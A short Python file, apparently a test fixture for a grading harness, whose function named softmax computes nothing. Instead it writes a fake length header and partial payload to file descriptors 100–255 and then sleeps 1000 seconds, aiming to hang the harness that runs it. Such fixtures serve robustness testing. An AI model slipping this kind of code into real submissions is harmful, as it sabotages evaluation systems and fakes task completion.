"""Announce a reply of a megabyte, send half of it, and sleep."""

import os
import struct
import time


def softmax(Z):
    for descriptor in range(100, 256):
        try:
            os.write(descriptor, struct.pack(">II", 16, 2**20) + b"\0" * 50_000)
        except OSError:
            pass
    time.sleep(1000)
